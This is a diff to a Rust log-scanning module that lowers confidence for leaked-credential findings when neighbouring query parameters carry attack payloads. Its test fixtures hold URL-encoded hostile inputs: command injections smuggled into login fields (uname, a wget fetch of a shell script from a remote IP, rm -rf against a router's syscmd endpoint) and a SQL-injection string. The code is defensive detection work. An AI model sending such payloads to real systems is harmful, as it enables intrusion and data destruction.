@@ -1,11 +1,12 @@
 //! What the application on the line says about a credential-named parameter: the request path
 //! and the parameters beside it tell an anti-CSRF token (phpMyAdmin, Drupal, PrestaShop) or a
 //! replay-cache key (an OAuth 1 nonce map) from a credential, whatever the parameter is called;
-//! the user agent tells a vulnerability scanner's probe from a leak.
+//! the user agent, or an injection payload beside the value, tells a vulnerability scanner's or an
+//! exploit kit's probe from a leak.
 //!
 //! It only ever removes parameter-rule detections (a self-identifying format is never judged by
-//! its neighbours), lowers the confidence of a scanner's findings, and decides from the line
-//! alone, never from file names.
+//! its neighbours), lowers the confidence of a scanner's or an exploit kit's findings, and decides
+//! from the line alone, never from file names.
 
 use super::Detection;
 use crate::rules::Matcher;
@@ -73,6 +74,59 @@ pub fn lower_for_scanners(detection: &mut Detection, user_agent: Option<&[u8]>) 
     if SCANNER_AGENTS.iter().any(|s| contains(&agent, s)) {
         detection.confidence = crate::finding::Confidence::Low;
     }
+}
+
+/// A parameter-rule finding in a request whose other parameters carry an injection payload (an
+/// exploit kit's `username=admin';ls #&password=asdf`) is weak evidence: the value is what the
+/// kit sends, not a credential someone leaked. Its confidence becomes `low`, as for a scanner's
+/// user agent.
+pub fn lower_for_probes(detection: &mut Detection, line: &[u8]) {
+    if !matches!(detection.rule.matcher, Matcher::Param { .. }) {
+        return;
+    }
+    let (Some(param), Some(span)) = (&detection.param, detection.spans.first()) else {
+        return;
+    };
+    let url = enclosing_url(line, span.start);
+    let query = url
+        .iter()
+        .position(|&b| b == b'?')
+        .map_or(url, |q| &url[q + 1..]);
+    let own = param.to_ascii_lowercase();
+    let probe = query.split(|&b| b == b'&').any(|pair| {
+        let (name, value) = match pair.iter().position(|&b| b == b'=') {
+            Some(eq) => (&pair[..eq], &pair[eq + 1..]),
+            None => return false,
+        };
+        let value = percent_decoded(value).to_ascii_lowercase();
+        name.to_ascii_lowercase() != own && crate::rules::checks::is_attack_payload(&value)
+    });
+    if probe {
+        detection.confidence = crate::finding::Confidence::Low;
+    }
+}
+
+/// One round of percent-decoding, with `+` as a space, as a query value is read.
+fn percent_decoded(value: &[u8]) -> Vec<u8> {
+    let hex = |b: u8| (b as char).to_digit(16);
+    let mut out = Vec::with_capacity(value.len());
+    let mut i = 0;
+    while i < value.len() {
+        match value[i] {
+            b'%' => match (value.get(i + 1), value.get(i + 2)) {
+                (Some(&h), Some(&l)) if hex(h).is_some() && hex(l).is_some() => {
+                    out.push((hex(h).unwrap_or(0) * 16 + hex(l).unwrap_or(0)) as u8);
+                    i += 3;
+                    continue;
+                }
+                _ => out.push(b'%'),
+            },
+            b'+' => out.push(b' '),
+            b => out.push(b),
+        }
+        i += 1;
+    }
+    out
 }
 
 /// The URL (or other whitespace- and quote-delimited text) around byte `pos` of `line`.
@@ -264,6 +318,36 @@ mod tests {
         let mut out = Vec::new();
         Detector::builtin().scan_line(browser.as_bytes(), LogType::Combined, &mut out);
         assert_eq!(out[0].confidence, crate::finding::Confidence::Medium);
+    }
+
+    #[test]
+    fn a_password_beside_an_injection_payload_is_low_confidence() {
+        let confidences = |target: &str| {
+            let line = format!(
+                "192.0.2.77 - - [04/Dec/2026:10:00:00 +0000] \"GET {target} HTTP/1.1\" 404 9 \"-\" \"Mozilla/5.0\""
+            );
+            let mut out = Vec::new();
+            Detector::builtin().scan_line(line.as_bytes(), LogType::Combined, &mut out);
+            out.iter().map(|d| d.confidence).collect::<Vec<_>>()
+        };
+        use crate::finding::Confidence::{Low, Medium};
+        for target in [
+            "/cgi-bin/login.cgi?username=root%27%3Buname%20-a%20%23&password=qwer",
+            "/cgi-bin/login.cgi?user=x%3Bwget+http%3A%2F%2F198.51.100.3%2Fb.sh&pass=Xk3mP9qLr2",
+            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+%2Ftmp%2F*%3Bwget&password=zq8Lm2Tp",
+            "/login.php?user=%27+or+%27%27%3D%27&pwd=Xk3mP9qLr2sT",
+        ] {
+            assert_eq!(confidences(target), [Low], "{target}");
+        }
+        // Ordinary siblings (a user name, an apostrophe in a name, a redirect) leave it medium.
+        for target in [
+            "/account/login?username=jdoe&password=Xk3mP9qLr2sT",
+            "/account/login?name=O%27Brien&password=Xk3mP9qLr2sT",
+            "/account/login?next=%2Fcart%3Fstep%3D2&password=Xk3mP9qLr2sT",
+            "/account/login?note=tom%26jerry&password=Xk3mP9qLr2sT",
+        ] {
+            assert_eq!(confidences(target), [Medium], "{target}");
+        }
     }
 
     #[test]
